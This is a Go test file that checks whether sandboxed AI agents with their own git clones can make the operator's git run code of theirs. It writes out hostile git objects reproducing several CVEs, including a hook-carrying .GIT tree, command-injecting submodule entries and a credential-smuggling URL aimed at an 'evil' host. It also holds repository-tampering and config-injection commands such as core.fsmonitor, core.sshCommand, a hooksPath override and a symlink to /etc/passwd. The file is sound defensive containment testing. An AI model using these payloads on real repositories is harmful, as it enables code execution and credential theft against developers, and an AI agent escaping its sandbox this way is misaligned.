// agent add --git and --git-worktree: an agent's own clone, and what an agent in one would
// have to do for the operator's git to run something of its making.

package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func (s *site) repository(id string) string { return filepath.Join(s.agentDir(id), "repository.git") }

// cloned adds an agent with a clone of its own of a fresh repository.
func (s *site) cloned(id string, flags ...string) (source string) {
	s.t.Helper()
	source = s.project(id + "-source")
	s.in(source, "git branch side && git tag -a v0 -m v0 && for i in 1 2 3; do echo $i > n && git add n && git commit -q -m $i; done")
	s.add(id, append([]string{"--git", source}, flags...)...)
	return source
}

// cloning runs git in an agent's clone.
func (s *site) cloning(id, script string) result {
	s.t.Helper()
	return s.sh(id, "cd '"+s.workspace(id)+"' && "+gitIdentity+script)
}

func TestInACloneOfItsOwnEverythingOfGitWorksAndCommitsComeOut(t *testing.T) {
	for _, nesting := range []string{"off", "on"} {
		t.Run("nesting "+nesting, func(t *testing.T) {
			s := newSite(t)
			source := s.cloned("alice", "--nesting", nesting)
			s.start()
			// What seals refuse works here; all but a hook that is no program, and a monitor.
			for _, line := range append(slices.Clone(everydayGit), `git config user.name x`, `git remote add x y`, `git branch -m topic renamed && git config branch.renamed.x y`, `git sparse-checkout set --no-cone a && git sparse-checkout disable`) {
				if r := s.cloning("alice", "set -e; "+line); r.code != 0 {
					t.Errorf("%s\nexit %d: %s%s", line, r.code, r.out, r.err)
				}
			}
			r := s.cloning("alice", `set -e; printf '#!/bin/sh\necho hook >> /tmp/hook\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
git switch -q -c topic3 main && echo h > h && git add h && git commit -q -m "from inside" && test -s /tmp/hook
git push -q -u origin topic3 && git checkout -q --track -b again origin/main && git push -q origin :side && git push -q origin v1
git -c protocol.file.allow=always submodule --quiet add "$PWD/made/clone" sub && git commit -q -m sub && git push -q origin HEAD:refs/heads/deep/er`)
			if r.code != 0 {
				t.Fatalf("exit %d: %s%s", r.code, r.out, r.err)
			}
			got := s.in(source, "git fetch -q '"+s.repository("alice")+"' '+refs/heads/*:refs/remotes/alice/*' && git log --format=%s alice/topic3 -1 && git branch -r && git status --porcelain")
			if !strings.HasPrefix(got, "from inside\n") || !strings.Contains(got, "alice/deep/er") || strings.Contains(got, "alice/side\n") {
				t.Errorf("what came out: %s", got)
			}
			s.in(source, "git -C '"+s.repository("alice")+"' fsck --no-progress")
			for _, ref := range []string{"refs/heads/topic3", "refs/heads/side", "refs/tags/v1", "refs/heads/deep/er"} {
				if n := s.pushed("alice", ref); n != 1 {
					t.Errorf("%s is in the audit log %d times", ref, n)
				}
			}
			// The other way: what the operator puts there the agent fetches.
			s.in(source, "git checkout -q -b operator && echo o > o && git add o && git commit -q -m 'from outside' && git push -q '"+s.repository("alice")+"' operator")
			if r := s.cloning("alice", "git fetch -q origin && git log --format=%s -1 origin/operator"); r.out != "from outside\n" {
				t.Errorf("fetched: %d %s%s", r.code, r.out, r.err)
			}
			if _, err := os.Stat(filepath.Join(s.repository("alice"), "packed-refs")); err == nil {
				t.Error("refs are packed, where what receives does not see them")
			}
		})
	}
}

func (s *site) pushed(id, ref string) (n int) {
	for _, r := range s.audited(id) {
		if r.Event == "pushed" && r.Detail["ref"] == ref {
			n++
		}
	}
	return n
}

// hostileObjects make a commit $c that has fooled a git before.
var hostileObjects = map[string]string{
	"a .git in a tree, with a hook (CVE-2014-9390)":            `b=$(printf '#!/bin/sh\ntouch pwned\n' | git hash-object -w --stdin) && h=$(printf '100755 blob %s\tpost-checkout\n' $b | git mktree) && d=$(printf '040000 tree %s\thooks\n' $h | git mktree) && t=$(printf '040000 tree %s\t.GIT\n' $d | git mktree)`,
	"a path that leads up (CVE-2018-11235)":                    `b=$(printf '[submodule "../../x"]\n\tpath = x\n\turl = ./x\n' | git hash-object -w --stdin) && t=$(printf '100644 blob %s\t.gitmodules\n' $b | git mktree)`,
	"an address that is an option (CVE-2018-17456)":            `b=$(printf '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n' | git hash-object -w --stdin) && t=$(printf '100644 blob %s\t.gitmodules\n' $b | git mktree)`,
	"a submodule's update that is a command (CVE-2019-19604)":  `b=$(printf '[submodule "x"]\n\tpath = x\n\turl = ./x\n\tupdate = !touch pwned\n' | git hash-object -w --stdin) && t=$(printf '100644 blob %s\t.gitmodules\n' $b | git mktree)`,
	"a .gitmodules that is a link (CVE-2018-11235)":            `b=$(printf '.git/config' | git hash-object -w --stdin) && t=$(printf '120000 blob %s\t.gitmodules\n' $b | git mktree)`,
	"a newline in an address, for credentials (CVE-2020-5260)": `b=$(printf '[submodule "x"]\n\tpath = x\n\turl = "https://h?\\nhost=evil/x"\n' | git hash-object -w --stdin) && t=$(printf '100644 blob %s\t.gitmodules\n' $b | git mktree)`,
	"a .git that NTFS and HFS+ take for it (CVE-2019-1352)":    `b=$(printf x | git hash-object -w --stdin) && t=$(printf '100644 blob %s\tgit~1\n' $b | git mktree)`,
}

func TestHostileObjectsDoNotComeOut(t *testing.T) {
	s := newSite(t)
	source := s.cloned("alice")
	s.start()
	s.ok("agent", "start", "alice")
	if r := s.cloning("alice", "git init -q --bare /tmp/lax.git"); r.code != 0 {
		t.Fatal(r.err)
	}
	for name, making := range hostileObjects {
		// The control: a repository that does not look takes it.
		r := s.cloning("alice", making+` && c=$(git commit-tree -m evil $t) && git push -q /tmp/lax.git +$c:refs/heads/evil && echo control && git push -q origin $c:refs/heads/evil && echo out`)
		if !strings.HasPrefix(r.out, "control\n") {
			t.Errorf("%s: the control fails too, so it proves nothing: %s%s", name, r.out, r.err)
		}
		if r.code == 0 || strings.Contains(r.out, "out") || !strings.Contains(r.err, "fsck") && !strings.Contains(r.err, "unpack") {
			t.Errorf("%s came out: %d %s%s", name, r.code, r.out, r.err)
		}
	}
	if got := s.in(source, "git ls-remote '"+s.repository("alice")+"'"); strings.Contains(got, "evil") {
		t.Errorf("refs: %s", got)
	}
	if n := s.pushed("alice", "refs/heads/evil"); n != 0 {
		t.Errorf("recorded as pushed: %d", n)
	}
}

// Each would have the operator's next git in the repository, or on a fetch from it, run or
// read something of the agent's. $r is the repository.
var repositoryAttacks = []string{
	`printf '[core]\n\tfsmonitor = touch /tmp/x\n' >> $r/config`,
	`mv $r/config $r/config.away`,
	`mkdir -p $r/hooks && printf '#!/bin/sh\n' > $r/hooks/post-update`,
	`echo /tmp/objects > $r/objects/info/alternates`,
	`echo /tmp/objects > $r/objects/info/http-alternates`,
	`echo ../elsewhere > $r/commondir`,
	`echo 'ref: refs/heads/evil' > $r/HEAD`,
	`git --git-dir=$r rev-parse main > $r/refs/heads/evil`,
	`rm -rf $r/refs/heads/main && test ! -e $r/refs/heads/main`,
	`ln -s /etc/passwd $r/refs/heads/link`,
	`mkfifo $r/refs/heads/fifo`,
	`mkdir -p $r/objects/zz`,
	`touch $r/packed-refs`,
	`chmod 777 $r`,
	`git --git-dir=$r config core.sshCommand x`,
	`git --git-dir=$r update-ref refs/heads/evil main`,
	`git --git-dir=$r gc -q --prune=now`,
	`mv $r $r.away`,
}

func TestAnAgentCanDoNothingToItsRepositoryButPush(t *testing.T) {
	s := newSite(t)
	s.cloned("alice", "--nesting", "off")
	s.cloned("bob", "--nesting", "on")
	s.add("carol")
	s.start()
	s.ok("agent", "start", "alice")
	control := s.path("control.git")
	var inside, outside strings.Builder
	for i, a := range repositoryAttacks {
		fmt.Fprintf(&inside, "(%s) >/dev/null 2>&1 && echo 'worked: %d'\n", a, i)
		fmt.Fprintf(&outside, "rm -rf %[1]s %[1]s.away && cp -r '%[2]s' %[1]s && r=%[1]s && (%[3]s) >/dev/null 2>&1 || echo 'failed: %[4]d'\n", control, s.repository("alice"), a, i)
	}
	for _, id := range []string{"alice", "bob"} {
		for _, at := range []string{"/run/agentconnect/repository.git", s.repository(id)} {
			// By the host's name the path is in the private home, if anywhere.
			if r := s.sh(id, "test -e '"+at+"/objects' || exit 0; r='"+at+"'\n"+inside.String()+"true"); r.code != 0 || r.out != "" {
				t.Errorf("%s, %s: %d %s%s", id, at, r.code, r.out, r.err)
			}
		}
	}
	if got := s.outside(outside.String() + "true"); got != "" {
		t.Errorf("outside these fail too, so they prove nothing: %s", got)
	}
	s.outside("rm -rf " + control + " " + control + ".away")
	// By what is asked of the supervisor: refs that are none, and no descriptor, no option.
	r := s.cloning("alice", `for ref in HEAD refs/../config ../config refs/heads/../../config config refs/heads/x.lock refs/heads/-x/../y objects/info/alternates refs/heads/proper; do
line="0000000000000000000000000000000000000000 $(git rev-parse main) $ref"; len=$(printf '%s\0report-status' "$line" | wc -c)
(printf '%04x%s\0report-status' $((len+4)) "$line"; printf 0000; git rev-parse main | git pack-objects --revs --stdout -q) | /run/agentconnect/guest git-receive-pack x | tr -d '\0' | grep -a -o "ok $ref"
done; true`)
	if r.out != "ok refs/heads/proper\n" { // the last is the control
		t.Errorf("what is taken: %s%s", r.out, r.err)
	}
	for _, push := range []string{
		`git push -q --receive-pack='git receive-pack' /run/agentconnect/repository.git HEAD:refs/heads/evil`,
		`git push -q --receive-pack='/run/agentconnect/guest git-receive-pack --upload-pack=x' origin HEAD:refs/../evil`,
	} {
		if r := s.cloning("alice", push); r.code == 0 {
			t.Errorf("it worked: %s", push)
		}
	}
	for _, id := range []string{"alice", "bob"} {
		got := s.outside("cd '" + s.repository(id) + "' && find . -mindepth 1 -maxdepth 1 | sort && cat config HEAD && ls refs/heads objects/info && git fsck --no-progress")
		if strings.Contains(got, "evil") || strings.Contains(got, "sshCommand") || !strings.HasPrefix(got, "./HEAD\n./config\n./objects\n./refs\n") {
			t.Errorf("%s: %s", id, got)
		}
	}
	// Who has no clone has nothing to push to.
	if r := s.sh("carol", "echo | /run/agentconnect/guest git-receive-pack x"); r.code == 0 || !strings.Contains(r.err, "no clone of its own") {
		t.Errorf("carol: %d %s", r.code, r.err)
	}
	// A push that hangs ends with who holds it, and keeps nobody from the next.
	if r := s.cloning("alice", "timeout 1 sh -c 'sleep 1000 | /run/agentconnect/guest git-receive-pack x >/dev/null'; git push -q origin HEAD:refs/heads/after"); r.code != 0 {
		t.Errorf("after one that hung: %d %s", r.code, r.err)
	}
}

// What an agent does to its clone is its own affair; what comes out of it runs nothing when
// the operator fetches it and looks at it.
func TestNothingOfAClonesConfigurationReachesTheOperatorsGit(t *testing.T) {
	s := newSite(t)
	source := s.cloned("alice")
	s.start()
	mark := s.path("pwned")
	r := s.cloning("alice", `set -e; for k in core.fsmonitor core.sshCommand core.pager core.editor uploadpack.packObjectsHook filter.x.smudge diff.external; do git config $k "touch `+mark+`; false"; done
git config core.hooksPath /tmp/hooks && mkdir -p /tmp/hooks && printf '#!/bin/sh\ntouch `+mark+`\n' > /tmp/hooks/post-checkout && chmod +x /tmp/hooks/post-checkout
git config --unset core.fsmonitor; git config --unset filter.x.smudge
echo '* filter=x diff=x' > .gitattributes && mkdir -p .husky && cp /tmp/hooks/post-checkout .husky/ && echo /tmp > .git/objects/info/alternates && git add -f .gitattributes .husky && git -c core.hooksPath=/dev/null commit -q -m evil && git -c core.hooksPath=/dev/null push -q origin HEAD:refs/heads/evil`)
	if r.code != 0 {
		t.Fatalf("inside: %d %s%s", r.code, r.out, r.err)
	}
	s.in(source, "git fetch -q '"+s.repository("alice")+"' evil && git log -p -1 FETCH_HEAD >/dev/null && git diff HEAD FETCH_HEAD >/dev/null && git checkout -q FETCH_HEAD && git status >/dev/null && git -C '"+s.repository("alice")+"' log --oneline evil >/dev/null && git -c protocol.file.allow=always clone -q '"+s.repository("alice")+"' ../copy")
	if exists(mark) {
		t.Error("it ran")
	}
	// The control: the same clone, where the operator is told not to go.
	s.outside("cd '" + s.workspace("alice") + "' && git config core.fsmonitor 'touch " + mark + "; false' && git status >/dev/null")
	if !exists(mark) {
		t.Error("the control does not work, so the rest proves nothing")
	}
}

func TestAgentAddOfACloneRefusesWhatItCannotKeepApart(t *testing.T) {
	s := newSite(t)
	source := s.project("source")
	mark := s.path("pwned")
	add := func(id string, flags ...string) []string {
		return append([]string{"agent", "add", id, "--runtime", "selftest"}, flags...)
	}
	s.fails(78, []string{"git.clone", "password"}, add("a", "--git", "https://user:secret@example.org/x")...)
	s.fails(78, []string{"without the sandbox"}, add("a", "--git", source, "--no-sandbox")...)
	s.fails(2, []string{"exclude"}, add("a", "--git", source, "--workspace", source)...)
	s.fails(2, []string{"no such folder"}, add("a", "--git", s.path("nowhere"))...)
	s.fails(2, []string{"no such folder"}, add("a", "--git", "ext::sh -c 'touch% "+mark+"'")...)
	s.fails(78, []string{"write https://"}, add("a", "--git", "ext::x://y")...)
	s.fails(78, []string{"write https://"}, add("a", "--git", "file:///etc")...)
	s.fails(1, []string{"not added"}, add("a", "--git", s.mkdir("empty"))...)
	s.fails(1, []string{"not added"}, add("a", "--git-worktree", s.path("empty"))...)
	if r := s.run(add("a", "--git", source)...); r.code != 0 {
		t.Fatalf("after the failures: %s", r.err)
	}
	s.fails(1, []string{"agents write"}, add("b", "--git", s.workspace("a"))...)
	s.fails(1, []string{"agents write"}, add("b", "--git-worktree", s.workspace("a"))...)
	s.fails(78, []string{"exclude"}, "agent", "edit", "a", "--workspace", source)
	s.fails(78, []string{"choose another"}, add("c", "--workspace", "repository.git")...)
	s.ok("agent", "rm", "a")
	s.fails(1, []string{"left its work"}, add("a", "--git", source)...)
	s.ok("agent", "rm", "a", "--purge")
	s.add("a", "--git", source)
	if exists(mark) {
		t.Error("it ran")
	}
	for _, args := range [][]string{{"agent", "show", "a"}, {"status"}, {"explain", "a"}} {
		if out := s.ok(args...); !strings.Contains(out, "repository.git") || !strings.Contains(out, "clone of its own") {
			t.Errorf("%q: %s", args, out)
		}
	}
}

func TestGitWorktreeIsTheOperatorsRepositoryWithABranchForTheAgent(t *testing.T) {
	s := newSite(t)
	source := s.project("source")
	s.write("source/secret-work", "uncommitted")
	s.add("wendy", "--git-worktree", source)
	s.start()
	r := s.cloning("wendy", "echo w > w && git add w && git commit -q -m 'from wendy' && git rebase -q main && git status --porcelain")
	if r.code != 0 || r.out != "" {
		t.Fatalf("inside: %d %s%s", r.code, r.out, r.err)
	}
	if got := s.in(source, "git log --format=%s -1 agentconnect/wendy && git status --porcelain"); got != "from wendy\n?? secret-work\n" {
		t.Errorf("outside: %q", got)
	}
	if r := s.sh("wendy", "cat '"+source+"/secret-work'"); r.code == 0 {
		t.Error("the rest of the checkout is seen inside")
	}
	s.sealed("wendy", source, ".git/hooks", ".git/config")
	s.sealed("wendy", s.workspace("wendy"), ".git")
	if out := s.ok("agent", "show", "wendy"); !strings.Contains(out, "worktree of "+source) {
		t.Errorf("show: %s", out)
	}
}
